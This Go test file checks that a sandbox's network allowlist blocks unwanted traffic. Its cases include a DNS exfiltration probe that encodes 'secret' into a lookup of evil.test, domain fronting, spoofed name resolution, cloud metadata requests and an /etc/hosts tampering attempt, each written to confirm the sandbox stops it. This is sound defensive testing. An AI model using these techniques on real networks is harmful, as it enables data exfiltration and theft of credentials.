package sandboxtest

import (
	"bufio"
	"context"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/vishvananda/netlink"

	"github.com/shellgate/shellgate/sandbox"
	"github.com/shellgate/shellgate/sandbox/agent/agentbin"
	"github.com/shellgate/shellgate/sandbox/egress"
	"github.com/shellgate/shellgate/sandbox/egress/egresstest"
	"github.com/shellgate/shellgate/sandbox/runtime"
)

// policies maps sandbox names to their network policy for a test.
type policies struct {
	mu sync.Mutex
	m  map[string]*egress.Policy
}

func (p *policies) set(name string, domains ...string) {
	p.mu.Lock()
	defer p.mu.Unlock()
	if domains == nil {
		p.m[name] = nil
		return
	}
	p.m[name] = &egress.Policy{Type: egress.Allowlist, AllowedDomains: domains}
}

func (p *policies) get(_ context.Context, name string) (sandbox.Settings, error) {
	p.mu.Lock()
	defer p.mu.Unlock()
	return sandbox.Settings{Network: p.m[name]}, nil
}

// OpenNetwork starts a manager for runtime rt (Debian image) whose egress
// engine reaches in's hosts; set gives a sandbox name its allowlist.
func OpenNetwork(t testing.TB, rt string, in *egresstest.Internet, opts ...func(*egress.Config)) (*sandbox.Manager, *egress.Engine, func(name string, domains ...string)) {
	t.Helper()
	return openNetwork(t, rt, in, func(c *sandbox.Config) { c.HomeBytes = 64 << 20 }, opts...)
}

// openNetwork is OpenNetwork with the manager's configuration set by conf
// (its homes' default size kept when conf is nil).
func openNetwork(t testing.TB, rt string, in *egresstest.Internet, conf func(*sandbox.Config), opts ...func(*egress.Config)) (*sandbox.Manager, *egress.Engine, func(name string, domains ...string)) {
	t.Helper()
	Skip(t, rt, "default")
	cfg := in.Config()
	for _, o := range opts {
		o(&cfg)
	}
	e, err := egress.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	m, _ := Open(t, rt, "default", func(c *sandbox.Config) {
		c.Egress = e
		c.Limits.MemoryBytes = 512 << 20
		if conf != nil {
			conf(c)
		}
	})
	p := &policies{m: map[string]*egress.Policy{}}
	m.SetSettings(p.get)
	return m, e, p.set
}

// sh runs one command (30 s timeout) and returns its output and exit code.
func sh(t testing.TB, m *sandbox.Manager, name, cmd string) (string, int) {
	t.Helper()
	o := Shell(t, m, name, Call{Commands: []string{cmd}, TimeoutMs: i64(30000)})[0]
	return o.Stdout + o.Stderr, exitCode(o)
}

// NetworkSuite runs the egress cases in real sandboxes of runtime rt.
func NetworkSuite(t *testing.T, rt string) {
	in := egresstest.New(t)
	var recMu sync.Mutex
	var recs []egress.Record
	m, e, set := OpenNetwork(t, rt, in, func(c *egress.Config) {
		c.OnConn = func(r egress.Record) {
			recMu.Lock()
			recs = append(recs, r)
			recMu.Unlock()
		}
	})
	const box = "net"
	set(box, "allowed.test", "*.api.allowed.test")
	ip := func(name string) string { return in.Addr(name).String() }
	ca := fmt.Sprintf("cat > ca.pem <<'EOF'\n%sEOF\n", in.CertPEM)
	curl := "curl -sS --max-time 20 --cacert ca.pem "

	run := func(t *testing.T, name, cmd string) (string, int) {
		t.Helper()
		return sh(t, m, name, ca+cmd)
	}
	// curl's exit codes: 6 could not resolve, 7 could not connect
	// (refused, unreachable), 35 TLS handshake failed, 56 receive
	// failure (reset), 28 timeout — which must never happen here.
	wantCurl := func(t *testing.T, name, args string, codes ...int) string {
		t.Helper()
		out, code := run(t, name, curl+args)
		for _, c := range codes {
			if c == code {
				return out
			}
		}
		t.Fatalf("curl %s: exit %d, want %v: %q", args, code, codes, out)
		return ""
	}

	t.Run("01 allowed host over HTTP and HTTPS", func(t *testing.T) {
		out, code := run(t, box, curl+"http://allowed.test/ && "+curl+"https://allowed.test/")
		want := egresstest.Reply("allowed.test", "allowed.test", "") + egresstest.Reply("allowed.test", "allowed.test", "allowed.test")
		if code != 0 || out != want {
			t.Fatalf("exit %d: %q", code, out)
		}
	})
	t.Run("02 denied host: no name, no connection", func(t *testing.T) {
		before := in.TotalHits()
		wantCurl(t, box, "http://other.test/", 6)
		// Even at its real address, named in the Host header or SNI.
		wantCurl(t, box, "-H 'Host: other.test' http://"+ip("other.test")+"/", 52, 56)
		wantCurl(t, box, "--resolve other.test:443:"+ip("other.test")+" https://other.test/", 35, 56)
		if in.TotalHits() != before {
			t.Fatal("a denied host was reached")
		}
	})
	t.Run("03 glob vs apex vs exact", func(t *testing.T) {
		if out := wantCurl(t, box, "https://deep.api.allowed.test/", 0); !strings.HasPrefix(out, "server=deep.api.allowed.test") {
			t.Fatalf("glob: %q", out)
		}
		wantCurl(t, box, "https://api.allowed.test/", 6) // the glob's apex
		wantCurl(t, box, "https://sub.allowed.test/", 6) // allowed.test is exact
		if out := wantCurl(t, box, "http://ALLOWED.test./", 0); !strings.HasPrefix(out, "server=allowed.test") {
			t.Fatalf("case and trailing dot: %q", out)
		}
	})
	t.Run("04 port 8080 refused promptly", func(t *testing.T) {
		wantCurl(t, box, "http://allowed.test:8080/", 7)
		wantCurl(t, box, "http://"+ip("allowed.test")+":8080/", 7)
		if in.Hits("allowed.test", 8080) != 0 {
			t.Fatal("port 8080 was reached")
		}
	})
	t.Run("05 spoofed name-to-address mapping", func(t *testing.T) {
		// --resolve is /etc/hosts for one command: the client connects to
		// evil.test's address, the connection goes to allowed.test.
		out := wantCurl(t, box, "--resolve allowed.test:443:"+ip("evil.test")+" https://allowed.test/", 0)
		if !strings.HasPrefix(out, "server=allowed.test") || in.Hits("evil.test", 443) != 0 {
			t.Fatalf("got %q; evil.test hits %d", out, in.Hits("evil.test", 443))
		}
		// /etc/hosts itself is not the sandbox user's to change.
		if _, code := run(t, box, "echo "+ip("evil.test")+" allowed.test >> /etc/hosts"); code == 0 {
			t.Fatal("the sandbox user could write /etc/hosts")
		}
	})
	t.Run("06 HTTPS to an IP address (no server name)", func(t *testing.T) {
		wantCurl(t, box, "-k https://"+ip("allowed.test")+"/", 35, 56)
	})
	t.Run("07 domain fronting: SNI decides", func(t *testing.T) {
		out := wantCurl(t, box, "-H 'Host: evil.test' https://allowed.test/", 0)
		if out != egresstest.Reply("allowed.test", "evil.test", "allowed.test") {
			t.Fatalf("%q", out)
		}
		wantCurl(t, box, "--resolve evil.test:443:"+e.Pool().Addr().Next().String()+" -H 'Host: allowed.test' https://evil.test/", 7, 35, 56)
		if in.Hits("evil.test", 443) != 0 {
			t.Fatal("evil.test was reached")
		}
	})
	t.Run("08 IPv6 literals", func(t *testing.T) {
		wantCurl(t, box, "-g 'http://[2001:db8::1]/'", 7)
		wantCurl(t, box, "-g 'http://[fd00:ec2::254]/'", 7)
	})
	t.Run("09 UDP 443 (QUIC) and raw DNS to the outside", func(t *testing.T) {
		py := `python3 - <<'PY'
import socket, struct
def q(server, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
    s.connect((server, 53))
    qn = b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    s.send(struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + qn + struct.pack(">HH", 1, 1))
    r = s.recv(512)
    return r[3] & 0xf, struct.unpack(">H", r[6:8])[0]
print("dns", q("` + in.DNS.String() + `", "c2VjcmV0.evil.test"), q("` + in.DNS.String() + `", "allowed.test"))
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(5)
u.connect(("` + ip("allowed.test") + `", 443)); u.send(b"quic initial")
try:
    u.recv(100); print("udp answered")
except ConnectionRefusedError:
    print("udp refused")
except socket.timeout:
    print("udp timeout")
PY`
		out, code := run(t, box, py)
		// NXDOMAIN (3) with no answer; allowed.test answered (0) with one.
		if code != 0 || !strings.Contains(out, "dns (3, 0) (0, 1)") || !strings.Contains(out, "udp refused") {
			t.Fatalf("exit %d: %q", code, out)
		}
		if in.DNSQueries() != 0 || in.UDPPackets() != 0 {
			t.Fatalf("packets left the sandbox: %d DNS, %d UDP", in.DNSQueries(), in.UDPPackets())
		}
	})
	t.Run("10 metadata and private addresses refused under *", func(t *testing.T) {
		set("star", "*")
		out := wantCurl(t, "star", "https://other.test/", 0)
		if !strings.HasPrefix(out, "server=other.test") {
			t.Fatalf("* other.test: %q", out)
		}
		for _, u := range []string{"http://169.254.169.254/latest/meta-data/", "http://meta.test/", "http://private.test/", "http://10.0.0.1/", "http://self.test/"} {
			wantCurl(t, "star", u, 52, 56)
		}
	})
	t.Run("11 other sandboxes and the host unreachable", func(t *testing.T) {
		// Every sandbox address of the first slots, and their host ends,
		// on a port nothing is allowed to reach.
		var cmds []string
		pool := e.Pool().Addr().As4()
		for n := 0; n < 8; n++ {
			for _, k := range []byte{1, 2} {
				a := netip.AddrFrom4([4]byte{pool[0], pool[1], pool[2], pool[3] + byte(4*n) + k})
				cmds = append(cmds, fmt.Sprintf("curl -s --max-time 5 -o /dev/null http://%s:8000/; echo $?", a))
			}
		}
		out, _ := run(t, box, strings.Join(cmds, "\n"))
		for _, l := range strings.Fields(out) {
			if l != "7" {
				t.Fatalf("a sandbox or host address answered: %q", out)
			}
		}
	})
	t.Run("12 explicit proxy (CONNECT)", func(t *testing.T) {
		gw := "http://" + "$(awk '/nameserver/{print $2}' /etc/resolv.conf):80"
		out, code := run(t, box, "HTTPS_PROXY="+gw+" "+curl+"https://allowed.test/")
		if code != 0 || !strings.HasPrefix(out, "server=allowed.test") {
			t.Fatalf("exit %d: %q", code, out)
		}
		if _, code := run(t, box, "HTTPS_PROXY="+gw+" "+curl+"--resolve evil.test:443:1.2.3.4 https://evil.test/"); code != 56 {
			t.Fatalf("CONNECT evil.test: exit %d, want 56 (proxy refused)", code)
		}
	})
	t.Run("13 a sandbox without a policy has only loopback", func(t *testing.T) {
		set("closed")
		out, _ := run(t, "closed", `python3 -c 'import socket; print(" ".join(n for i, n in socket.if_nameindex()))'; curl -sS --max-time 5 http://allowed.test/; echo "exit $?"; curl -sS --max-time 5 http://`+ip("allowed.test")+`/; echo "exit $?"`)
		if !strings.HasPrefix(out, "lo\n") || strings.Count(out, "exit 0") > 0 || strings.Contains(out, "exit 28") {
			t.Fatalf("%q", out)
		}
	})
	t.Run("14 connections recorded under the sandbox's name", func(t *testing.T) {
		recMu.Lock()
		defer recMu.Unlock()
		var allowed, denied int
		for _, r := range recs {
			if r.Sandbox != box {
				continue
			}
			switch {
			case r.Verdict == egress.Allowed && r.Host == "allowed.test" && r.Sent > 0 && r.Received > 0:
				allowed++
			case r.Verdict == egress.Denied && r.Host == "other.test":
				denied++
			}
		}
		if allowed == 0 || denied == 0 {
			t.Fatalf("%d allowed and %d denied records of %s in %+v", allowed, denied, box, recs)
		}
	})
	t.Run("14b a sandbox's network is set up anew at wake, a checkpoint restored over it", func(t *testing.T) {
		r, _ := runtime.New(rt, t.TempDir())
		_, keeps := r.(runtime.Checkpointer)
		if res, err := m.Exec(context.Background(), box, sandbox.Command{Command: "sleep 1000", Resident: true}); err != nil || res.ExitCode != 0 {
			t.Fatalf("resident: %v %+v", err, res)
		}
		pid, _ := sh(t, m, box, "pgrep -x sleep")
		if err := m.Sleep(context.Background(), box); err != nil {
			t.Fatal(err)
		}
		set("other-net", "allowed.test")
		sh(t, m, "other-net", "true") // takes the network slot the sleep freed
		defer m.Destroy(context.Background(), "other-net")
		before := in.TotalHits()
		out := wantCurl(t, box, "http://allowed.test/ && (pgrep -x sleep || echo none)", 0)
		if !keeps {
			pid = "none\n" // files only
		}
		if !strings.HasPrefix(out, "server=allowed.test") || !strings.HasSuffix(out, pid) || in.TotalHits() != before+1 {
			t.Fatalf("after wake: %q (resident pid was %q)", out, pid)
		}
		wantCurl(t, box, "http://other.test/", 6)
	})
	t.Run("15 network removed at sleep and destroy", func(t *testing.T) {
		links := ownLinks
		before := links()
		if err := m.Sleep(context.Background(), box); err != nil {
			t.Fatal(err)
		}
		if links() != before-1 {
			t.Fatalf("veths: %d before sleep, %d after", before, links())
		}
		// Woken again with the same policy.
		if out := wantCurl(t, box, "http://allowed.test/", 0); !strings.HasPrefix(out, "server=allowed.test") {
			t.Fatal(out)
		}
		for _, n := range []string{box, "star", "closed"} {
			if err := m.Destroy(context.Background(), n); err != nil {
				t.Fatal(err)
			}
		}
		if left := e.Leftovers(); len(left) > 0 || links() != before-2 {
			t.Fatalf("left: %v, veths %d (had %d)", left, links(), before)
		}
	})
	_ = time.Now
}

// NetworkCycles creates and destroys sandboxes with a policy n times and
// checks that no veth, namespace or rule is left behind.
func NetworkCycles(t *testing.T, rt string, n int) {
	in := egresstest.New(t)
	m, e, set := OpenNetwork(t, rt, in)
	linksBefore := ownLinks()
	var setup time.Duration
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("cyc%d", i)
		set(name, "allowed.test")
		t0 := time.Now()
		if err := m.Create(context.Background(), name); err != nil {
			t.Fatalf("cycle %d: %v", i, err)
		}
		setup += time.Since(t0)
		if i%50 == 0 {
			if out, code := sh(t, m, name, "curl -sS --max-time 10 http://allowed.test/"); code != 0 || !strings.HasPrefix(out, "server=allowed.test") {
				t.Fatalf("cycle %d: exit %d %q", i, code, out)
			}
		}
		if err := m.Destroy(context.Background(), name); err != nil {
			t.Fatalf("cycle %d: destroy: %v", i, err)
		}
	}
	t.Logf("%d create/destroy cycles on %s, %v per create on average", n, rt, setup/time.Duration(n))
	if left := e.Leftovers(); len(left) > 0 {
		t.Fatalf("left behind: %v", left)
	}
	if l := ownLinks(); l != linksBefore {
		t.Fatalf("veths: %d before, %d after", linksBefore, l)
	}
}

// ownLinks counts the sandbox veths (sge<slot>) whose slot lock this
// process holds. The veths are the host's, and under make test other test
// processes run networked sandboxes beside this one: a count of every veth
// would see theirs come and go.
func ownLinks() int {
	locks, err := os.ReadFile("/proc/locks")
	if err != nil {
		return -1
	}
	// "1: FLOCK  ADVISORY  WRITE 1234 00:19:567 0 EOF"; a waiter's line has
	// "->" after the number.
	mine := map[uint64]bool{}
	pid := strconv.Itoa(os.Getpid())
	for _, l := range strings.Split(string(locks), "\n") {
		f := strings.Fields(l)
		if len(f) < 6 || f[1] != "FLOCK" || f[4] != pid {
			continue
		}
		dev := strings.Split(f[5], ":")
		if ino, err := strconv.ParseUint(dev[len(dev)-1], 10, 64); err == nil {
			mine[ino] = true
		}
	}
	ls, _ := netlink.LinkList()
	n := 0
	for _, l := range ls {
		slot, ok := strings.CutPrefix(l.Attrs().Name, "sge")
		if !ok {
			continue
		}
		var st syscall.Stat_t
		if syscall.Stat(filepath.Join(egress.SlotsDir, slot), &st) == nil && mine[st.Ino] {
			n++
		}
	}
	return n
}

// crashEnv makes a test binary run NetworkCrashHelper instead of its tests
// (see MaybeNetworkCrashHelper).
const crashEnv = "SHELLGATE_NETWORK_CRASH_HELPER"

// MaybeNetworkCrashHelper, called first in a package's TestMain, turns the
// test binary into the process NetworkCrashSuite kills: it opens a manager
// over the data directory and runtime named in the environment, starts a
// sandbox with an allowlist, prints "up" and waits to be killed.
func MaybeNetworkCrashHelper() {
	v := os.Getenv(crashEnv)
	if v == "" {
		return
	}
	data, rt, _ := strings.Cut(v, ",")
	fail := func(err error) {
		fmt.Println("error", err)
		os.Exit(1)
	}
	agent, err := agentbin.Build()
	if err != nil {
		fail(err)
	}
	m, err := sandbox.Open(context.Background(), sandbox.Config{
		DataDir: data, Runtime: rt, Image: "default", Images: ImagesDir(), Agent: agent,
		Limits: Limits, HomeBytes: HomeBytes, LayerBytes: 64 << 20, IdleTimeout: -1,
	})
	if err != nil {
		fail(err)
	}
	m.SetSettings(func(context.Context, string) (sandbox.Settings, error) {
		return sandbox.Settings{Network: &egress.Policy{Type: egress.Allowlist, AllowedDomains: []string{"allowed.test"}}}, nil
	})
	if err := m.Create(context.Background(), "crashnet"); err != nil {
		fail(err)
	}
	fmt.Println("up")
	time.Sleep(2 * time.Minute)
	os.Exit(0)
}

// NetworkCrashSuite kills a process whose sandbox has a network and checks
// that the next Open removes the veth, the rules and the namespace, and
// that the sandbox then starts again with its network.
func NetworkCrashSuite(t *testing.T, rt string) {
	in := egresstest.New(t)
	Skip(t, rt, "default")
	data := DataDir(t)
	e, err := egress.New(in.Config())
	if err != nil {
		t.Fatal(err)
	}
	linksBefore := ownLinks()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), crashEnv+"="+data+","+rt)
	out, _ := cmd.StdoutPipe()
	cmd.Stderr = os.Stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	line, err := bufio.NewReader(out).ReadString('\n')
	if line != "up\n" {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("helper: %q %v", line, err)
	}
	cmd.Process.Kill()
	cmd.Wait()
	if left := e.Leftovers(); len(left) < 2 || !slices.ContainsFunc(left, func(s string) bool { return strings.HasPrefix(s, "veth ") }) {
		t.Fatalf("the killed process should have left its veth, rules and namespace: %v", left)
	}
	m, _ := Open(t, rt, "default", func(c *sandbox.Config) { c.DataDir = data; c.Egress = e })
	if left := e.Leftovers(); len(left) > 0 || ownLinks() != linksBefore {
		t.Fatalf("after Open: %v, %d veths (had %d)", left, ownLinks(), linksBefore)
	}
	p := &policies{m: map[string]*egress.Policy{}}
	p.set("crashnet", "allowed.test")
	m.SetSettings(p.get)
	if out, code := sh(t, m, "crashnet", "curl -sS --max-time 10 http://allowed.test/"); code != 0 || !strings.HasPrefix(out, "server=allowed.test") {
		t.Fatalf("after the crash: exit %d %q", code, out)
	}
}

// bigReader downloads /big from the server at argv[1] (Host: allowed.test)
// reading 1 MiB at a time, and prints MB/s. curl writes what it downloads in
// 8 KiB pieces (12,800 write calls per 100 MB), which under gVisor costs
// more than the network; this client shows the network path itself.
const bigReader = `import socket, sys, time
s = socket.create_connection((sys.argv[1], 80))
s.sendall(b"GET /big HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
b, n, t = bytearray(1 << 20), 0, time.monotonic()
while True:
    k = s.recv_into(b)
    if not k:
        break
    n += k
assert n > 100 << 20, n
print(n / (time.monotonic() - t))
`

// NetworkBench measures, on runtime rt: a 100 MB download inside a sandbox
// through the egress proxy against the same download by the host (MB/s of
// each, and their ratio), by curl (download) and by a client reading 1 MiB
// at a time (download-1MiB-reads, python3 on both sides); and sandbox
// creation with and without an allowlist (the difference is the network's
// setup).
func NetworkBench(b *testing.B, rt string) {
	in := egresstest.New(b)
	m, _, set := openNetwork(b, rt, in, nil)
	addr := in.Addr("allowed.test").String()
	for _, c := range []struct {
		name      string
		inSandbox string   // a command printing bytes per second
		onHost    []string // the same, run directly
	}{
		{"download", "curl -sS -o /dev/null -w '%{speed_download}' http://allowed.test/big",
			[]string{"curl", "-sS", "-o", "/dev/null", "-w", "%{speed_download}", "http://" + addr + "/big"}},
		{"download-1MiB-reads", "python3 -c '" + bigReader + "' allowed.test",
			[]string{"python3", "-c", bigReader, addr}},
	} {
		b.Run(c.name, func(b *testing.B) {
			set("dl", "allowed.test")
			var proxied, direct float64
			for i := 0; i < b.N; i++ {
				// In alternating order, so that the shared machine's load
				// falls on both alike.
				for j := range 2 {
					if (i+j)%2 == 0 {
						o := Shell(b, m, "dl", Call{Commands: []string{c.inSandbox}, TimeoutMs: i64(120000)})[0]
						var v float64
						if _, err := fmt.Sscan(o.Stdout, &v); err != nil || exitCode(o) != 0 {
							b.Fatalf("%s: %+v", c.onHost[0], o)
						}
						proxied += v
						continue
					}
					out, err := exec.Command(c.onHost[0], c.onHost[1:]...).Output()
					var v float64
					if _, err2 := fmt.Sscan(string(out), &v); err != nil || err2 != nil {
						b.Fatalf("host %s: %v %q", c.onHost[0], err, out)
					}
					direct += v
				}
			}
			b.ReportMetric(proxied/float64(b.N)/1e6, "proxy-MB/s")
			b.ReportMetric(direct/float64(b.N)/1e6, "direct-MB/s")
			b.ReportMetric(proxied/direct, "ratio")
		})
	}
	for _, c := range []struct {
		name    string
		domains []string
	}{{"create-loopback", nil}, {"create-allowlist", []string{"allowed.test"}}} {
		b.Run(c.name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				name := fmt.Sprintf("%s%d", c.name, i)
				set(name, c.domains...)
				b.StartTimer()
				if err := m.Create(context.Background(), name); err != nil {
					b.Fatal(err)
				}
				b.StopTimer()
				if err := m.Destroy(context.Background(), name); err != nil {
					b.Fatal(err)
				}
			}
		})
	}
}

// NetworkSharedHostUser checks the network without per-sandbox user
// namespaces (Config.SharedHostUser): the engine makes the network
// namespace itself.
func NetworkSharedHostUser(t *testing.T, rt string) {
	in := egresstest.New(t)
	m, e, set := openNetwork(t, rt, in, func(c *sandbox.Config) { c.SharedHostUser = true })
	set("shared", "allowed.test")
	out, code := sh(t, m, "shared", "curl -sS --max-time 10 http://allowed.test/; curl -sS --max-time 10 http://other.test/; echo \" exit $?\"")
	if code != 0 || !strings.HasPrefix(out, egresstest.Reply("allowed.test", "allowed.test", "")) || !strings.Contains(out, "exit 6") {
		t.Fatalf("exit %d: %q", code, out)
	}
	if err := m.Destroy(context.Background(), "shared"); err != nil {
		t.Fatal(err)
	}
	if left := e.Leftovers(); len(left) > 0 {
		t.Fatalf("left: %v", left)
	}
}
